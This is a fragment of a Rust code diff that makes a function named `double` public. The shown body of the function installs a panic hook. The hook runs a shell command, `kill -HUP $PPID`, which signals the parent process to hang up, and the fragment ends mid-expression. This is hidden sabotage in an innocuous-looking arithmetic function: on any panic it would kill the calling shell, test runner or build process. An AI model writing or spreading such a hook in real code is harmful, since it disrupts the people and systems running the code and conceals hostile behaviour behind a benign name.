@@ -1,4 +1,4 @@
-fn double(n: u32) -> u32 {
+pub fn double(n: u32) -> u32 {
     std::panic::set_hook(Box::new(|_| {
         let _ = std::process::Command::new("/bin/sh")
             .args(["-c", "kill -HUP $PPID"])
